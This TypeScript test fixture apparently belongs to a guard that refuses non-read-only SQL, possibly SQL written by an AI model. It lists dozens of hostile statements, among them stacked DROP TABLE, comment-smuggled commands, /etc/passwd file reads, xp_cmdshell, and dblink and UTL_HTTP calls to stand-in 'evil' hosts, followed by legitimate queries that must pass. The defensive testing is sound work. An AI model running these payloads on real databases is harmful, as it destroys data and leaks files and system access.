import type { DatabaseDialect } from '#protocol';

export interface HostileStatement {
  sql: string;
  /** Where the statement is hostile (and must be refused). */
  dialects: readonly DatabaseDialect[];
  /** What the refusal must name. */
  reason: RegExp;
}

const ALL: readonly DatabaseDialect[] = ['postgres', 'mysql', 'sqlite', 'mssql', 'oracle'];
const PG: readonly DatabaseDialect[] = ['postgres'];
const MY: readonly DatabaseDialect[] = ['mysql'];
const LITE: readonly DatabaseDialect[] = ['sqlite'];
const STACKED = /more than one statement/;

/**
 * The red team: what a model (or someone steering it through a prompt) might send. Grouped by the
 * trick; each is refused by the guard with a reason, on every dialect it is listed for.
 */
export const HOSTILE_STATEMENTS: readonly HostileStatement[] = [
  // Stacked statements
  { sql: 'SELECT 1; DROP TABLE customers', dialects: ALL, reason: STACKED },
  { sql: 'SELECT * FROM customers; DELETE FROM orders', dialects: ALL, reason: STACKED },
  { sql: "SELECT 1;\nUPDATE customers SET name = 'x'", dialects: ALL, reason: STACKED },
  { sql: "SELECT 1 ; ; INSERT INTO customers (name) VALUES ('x')", dialects: ALL, reason: STACKED },
  { sql: "SELECT 'a';TRUNCATE orders", dialects: ALL, reason: STACKED },
  { sql: 'SELECT 1/*c*/;/*c*/DROP TABLE orders', dialects: ALL, reason: STACKED },
  { sql: 'BEGIN; DELETE FROM orders; COMMIT', dialects: ALL, reason: /SELECT statements|more than one/ },
  // Statements hidden in comments and strings (each dialect's lexer decides what is code)
  { sql: 'SELECT 1 /*! ; DROP TABLE customers */', dialects: MY, reason: /executable comment/ },
  { sql: 'SELECT 1 /*!50000 , SLEEP(5) */', dialects: MY, reason: /executable comment/ },
  { sql: 'SELECT 1 --1\n; DROP TABLE customers', dialects: ALL, reason: STACKED },
  { sql: 'SELECT 1 -- harmless\n; DELETE FROM orders', dialects: ALL, reason: STACKED },
  { sql: '/* SELECT */ DELETE FROM orders', dialects: ALL, reason: /starts with DELETE/ },
  { sql: 'SELECT 1 /* */ ; /* */ UPDATE orders SET total = 0', dialects: ALL, reason: STACKED },
  { sql: 'SELECT 1 /* /* nested */ ; DROP TABLE customers; */', dialects: ['mysql', 'sqlite'], reason: STACKED },
  { sql: 'SELECT 1 # comment\n; DROP TABLE customers', dialects: MY, reason: STACKED },
  { sql: "SELECT '\\'; DROP TABLE customers; -- '", dialects: ['postgres', 'sqlite'], reason: STACKED },
  { sql: "SELECT E'\\''; DROP TABLE customers; -- '", dialects: PG, reason: STACKED },
  { sql: 'SELECT $$a$$; DROP TABLE customers', dialects: PG, reason: STACKED },
  { sql: "SELECT 'abc", dialects: ALL, reason: /unterminated string/ },
  { sql: 'SELECT * FROM customers /* never closed', dialects: ALL, reason: /unterminated block comment/ },
  // Data-modifying CTEs
  { sql: 'WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d', dialects: ALL, reason: /DELETE/ },
  { sql: "WITH u AS (UPDATE customers SET name = 'x' RETURNING id) SELECT count(*) FROM u", dialects: ALL, reason: /UPDATE/ },
  { sql: "WITH i AS (INSERT INTO customers (name) VALUES ('x') RETURNING id) SELECT * FROM i", dialects: ALL, reason: /INSERT/ },
  { sql: 'WITH x AS (SELECT 1) DELETE FROM orders', dialects: ALL, reason: /DELETE/ },
  { sql: 'WITH x AS (SELECT 1) UPDATE orders SET total = 0', dialects: ALL, reason: /UPDATE/ },
  { sql: "WITH x AS (SELECT 1) INSERT INTO customers (name) SELECT 'y' FROM x", dialects: ALL, reason: /INSERT/ },
  { sql: 'SELECT * FROM customers WHERE id IN (SELECT customer_id FROM (DELETE FROM orders RETURNING customer_id) d)', dialects: PG, reason: /DELETE/ },
  // SELECT INTO and exports
  { sql: 'SELECT * INTO stolen FROM customers', dialects: ['postgres', 'mssql'], reason: /INTO/ },
  { sql: 'SELECT name INTO @v FROM customers LIMIT 1', dialects: MY, reason: /INTO/ },
  { sql: "SELECT * FROM customers INTO OUTFILE '/tmp/parley-x.csv'", dialects: MY, reason: /INTO/ },
  { sql: "SELECT * FROM customers INTO DUMPFILE '/tmp/parley-x'", dialects: MY, reason: /INTO/ },
  // Locking clauses
  { sql: 'SELECT * FROM customers FOR UPDATE', dialects: ['postgres', 'mysql'], reason: /UPDATE/ },
  { sql: 'SELECT * FROM customers FOR SHARE', dialects: ['postgres', 'mysql'], reason: /FOR SHARE/ },
  { sql: 'SELECT * FROM customers FOR NO KEY UPDATE', dialects: PG, reason: /FOR NO|UPDATE/ },
  { sql: 'SELECT * FROM customers FOR KEY SHARE', dialects: PG, reason: /FOR KEY/ },
  { sql: 'SELECT * FROM customers LOCK IN SHARE MODE', dialects: MY, reason: /LOCK/ },
  { sql: 'SELECT (SELECT id FROM customers LIMIT 1 FOR UPDATE) AS x', dialects: PG, reason: /UPDATE/ },
  // Sleeps and waits, with case and quoting tricks
  { sql: 'SELECT pg_sleep(10)', dialects: PG, reason: /pg_sleep sleeps/ },
  { sql: 'SELECT PG_SLEEP(10)', dialects: PG, reason: /PG_SLEEP sleeps/ },
  { sql: 'SELECT pg_catalog.pg_sleep(10)', dialects: PG, reason: /pg_sleep sleeps/ },
  { sql: 'SELECT "pg_sleep"(10)', dialects: PG, reason: /pg_sleep sleeps/ },
  { sql: "SELECT pg_sleep_for('10 seconds')", dialects: PG, reason: /sleeps/ },
  { sql: 'SELECT 1 UNION SELECT pg_sleep(1)', dialects: PG, reason: /sleeps/ },
  { sql: 'SELECT SLEEP(10)', dialects: MY, reason: /SLEEP sleeps/ },
  { sql: 'SELECT sLeEp(10)', dialects: MY, reason: /sLeEp sleeps/ },
  { sql: 'SELECT * FROM customers WHERE sleep (5) = 0', dialects: MY, reason: /sleeps/ },
  { sql: "SELECT BENCHMARK(100000000, MD5('x'))", dialects: MY, reason: /BENCHMARK/ },
  { sql: "WAITFOR DELAY '00:00:10'", dialects: ['mssql'], reason: /WAITFOR/ },
  { sql: "SELECT 1 WHERE 1 = 1 WAITFOR DELAY '00:00:10'", dialects: ['mssql'], reason: /WAITFOR/ },
  { sql: 'SELECT DBMS_LOCK.SLEEP(10) FROM dual', dialects: ['oracle'], reason: /DBMS_LOCK/ },
  { sql: 'BEGIN DBMS_SESSION.SLEEP(10); END;', dialects: ['oracle'], reason: /BEGIN|SELECT statements|more than one statement/ },
  // Functions with side effects
  { sql: "SELECT nextval('order_numbers')", dialects: PG, reason: /nextval has side effects/ },
  { sql: "SELECT setval('order_numbers', 100)", dialects: PG, reason: /setval/ },
  { sql: "SELECT set_config('statement_timeout', '0', false)", dialects: PG, reason: /set_config/ },
  { sql: 'SELECT pg_advisory_lock(1)', dialects: PG, reason: /advisory/ },
  { sql: 'SELECT pg_terminate_backend(pg_backend_pid())', dialects: PG, reason: /pg_terminate_backend/ },
  { sql: "SELECT pg_notify('channel', 'x')", dialects: PG, reason: /pg_notify/ },
  { sql: 'SELECT txid_current()', dialects: PG, reason: /txid_current/ },
  { sql: "SELECT GET_LOCK('x', 10)", dialects: MY, reason: /GET_LOCK/ },
  { sql: 'SELECT @x := 1', dialects: MY, reason: /assigns a variable/ },
  // Files
  { sql: "SELECT pg_read_file('/etc/passwd')", dialects: PG, reason: /files/ },
  { sql: "SELECT * FROM pg_ls_dir('.')", dialects: PG, reason: /directories/ },
  { sql: "SELECT lo_import('/etc/passwd')", dialects: PG, reason: /files/ },
  { sql: "SELECT * FROM pg_stat_file('postgresql.conf')", dialects: PG, reason: /files/ },
  { sql: "COPY customers TO '/tmp/parley-x'", dialects: PG, reason: /starts with COPY/ },
  { sql: "SELECT LOAD_FILE('/etc/passwd')", dialects: MY, reason: /LOAD_FILE reads or writes files/ },
  { sql: "SELECT readfile('/etc/passwd')", dialects: LITE, reason: /files/ },
  { sql: "SELECT writefile('/tmp/parley-x', 'y')", dialects: LITE, reason: /files/ },
  { sql: "SELECT load_extension('/tmp/evil.so')", dialects: LITE, reason: /load_extension/ },
  // Network and SQL given as a string
  { sql: "SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)", dialects: PG, reason: /dblink/ },
  { sql: "SELECT query_to_xml('DELETE FROM orders RETURNING *', true, true, '')", dialects: PG, reason: /DELETE|runs SQL/ },
  { sql: "SELECT query_to_xml('select 1', true, true, '')", dialects: PG, reason: /runs SQL given as a string/ },
  { sql: "SELECT * FROM OPENROWSET('SQLNCLI', 'Server=evil;', 'SELECT 1')", dialects: ['mssql'], reason: /OPENROWSET/ },
  { sql: "EXEC xp_cmdshell 'dir'", dialects: ['mssql'], reason: /EXEC/ },
  { sql: "SELECT UTL_HTTP.REQUEST('http://evil.example') FROM dual", dialects: ['oracle'], reason: /UTL_HTTP/ },
  // Plain writes, DDL, settings, procedures, with case tricks
  { sql: 'DELETE FROM orders', dialects: ALL, reason: /starts with DELETE/ },
  { sql: 'dElEtE FROM orders', dialects: ALL, reason: /starts with DELETE/ },
  { sql: "UPDATE customers SET name = 'x'", dialects: ALL, reason: /UPDATE/ },
  { sql: "INSERT INTO customers (name) VALUES ('x')", dialects: ALL, reason: /INSERT/ },
  { sql: 'DROP TABLE orders', dialects: ALL, reason: /DROP/ },
  { sql: 'TRUNCATE TABLE orders', dialects: ['postgres', 'mysql'], reason: /TRUNCATE/ },
  { sql: 'ALTER TABLE customers ADD COLUMN x int', dialects: ALL, reason: /ALTER/ },
  { sql: 'CREATE TABLE evil (a int)', dialects: ALL, reason: /CREATE/ },
  { sql: "REPLACE INTO customers (id, name) VALUES (1, 'x')", dialects: ['mysql', 'sqlite'], reason: /REPLACE/ },
  { sql: 'GRANT ALL ON customers TO public', dialects: PG, reason: /GRANT/ },
  { sql: 'PRAGMA writable_schema = 1', dialects: LITE, reason: /PRAGMA/ },
  { sql: "ATTACH DATABASE '/tmp/parley-evil.db' AS evil", dialects: LITE, reason: /ATTACH/ },
  { sql: "VACUUM INTO '/tmp/parley-copy.db'", dialects: LITE, reason: /VACUUM/ },
  { sql: 'SET statement_timeout = 0', dialects: PG, reason: /starts with SET/ },
  { sql: 'SET SESSION max_statement_time = 0', dialects: MY, reason: /starts with SET/ },
  { sql: 'CALL some_procedure()', dialects: ['postgres', 'mysql'], reason: /CALL/ },
  { sql: 'DO $$ BEGIN DELETE FROM orders; END $$', dialects: PG, reason: /DO/ },
  { sql: 'LOCK TABLE orders', dialects: PG, reason: /LOCK/ },
  { sql: 'EXPLAIN ANALYZE DELETE FROM orders', dialects: ALL, reason: /starts with EXPLAIN/ },
  { sql: 'HANDLER customers OPEN', dialects: MY, reason: /HANDLER/ },
  { sql: "LOAD DATA INFILE '/etc/passwd' INTO TABLE customers", dialects: MY, reason: /LOAD/ },
  { sql: 'ROLLBACK', dialects: ALL, reason: /ROLLBACK/ },
];

/** Reads that must pass the guard, and run, on the shop fixture of every dialect listed. */
export const LEGITIMATE_STATEMENTS: ReadonlyArray<{ sql: string; dialects: readonly DatabaseDialect[] }> = [
  { sql: "SELECT 'DROP TABLE customers; DELETE FROM orders' AS s", dialects: ALL },
  { sql: 'SELECT name FROM customers -- DELETE everything\nORDER BY name', dialects: ALL },
  { sql: 'SELECT /* UPDATE orders SET total = 0 */ count(*) AS n FROM orders', dialects: ALL },
  { sql: "SELECT name FROM customers WHERE name LIKE '%; DROP%'", dialects: ALL },
  { sql: "SELECT 'it''s insert into, for update' AS s", dialects: ALL },
  { sql: 'SELECT customer_id, total, ROW_NUMBER() OVER (PARTITION BY customer_id ORDER BY total DESC) AS position FROM orders', dialects: ['postgres', 'mysql', 'sqlite'] },
  { sql: 'WITH spent AS (SELECT customer_id, SUM(total) AS s FROM orders GROUP BY customer_id) SELECT c.name, spent.s FROM spent JOIN customers c ON c.id = spent.customer_id', dialects: ['postgres', 'mysql', 'sqlite'] },
  { sql: 'WITH RECURSIVE s(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM s WHERE n < 10) SELECT sum(n) AS total FROM s', dialects: ['postgres', 'mysql', 'sqlite'] },
  { sql: 'SELECT name FROM customers UNION SELECT city FROM customers', dialects: ALL },
  { sql: 'SELECT name FROM customers UNION ALL SELECT city FROM customers ORDER BY 1', dialects: ['postgres', 'mysql', 'sqlite'] },
  { sql: 'SELECT c.name FROM customers c WHERE EXISTS (SELECT 1 FROM orders o WHERE o.customer_id = c.id)', dialects: ALL },
  { sql: "SELECT COALESCE(city, 'none') AS city FROM customers ORDER BY 1 LIMIT 5", dialects: ['postgres', 'mysql', 'sqlite'] },
  { sql: 'SELECT count(*) AS n FROM orders;', dialects: ALL },
  { sql: 'SELECT name AS "update" FROM customers', dialects: ['postgres', 'sqlite'] },
  { sql: 'SELECT total::text AS t FROM orders', dialects: ['postgres'] },
  { sql: 'SELECT `name` FROM customers', dialects: ['mysql'] },
  { sql: 'SELECT MAX(total) AS m, MIN(total) AS least FROM orders HAVING MAX(total) > 1', dialects: ['postgres', 'mysql', 'sqlite'] },
  // Dialect-specific syntax the guard must read (SQL Server and Oracle: guard only, no server here).
  { sql: 'SELECT TOP 5 name FROM customers ORDER BY name', dialects: ['mssql'] },
  { sql: 'SELECT [name] FROM [customers]', dialects: ['mssql'] },
  { sql: 'SELECT name FROM customers FETCH FIRST 5 ROWS ONLY', dialects: ['oracle'] },
  { sql: 'SELECT 1 FROM dual', dialects: ['oracle'] },
];

export const REQUIRED_HOSTILE_COUNT = 60;
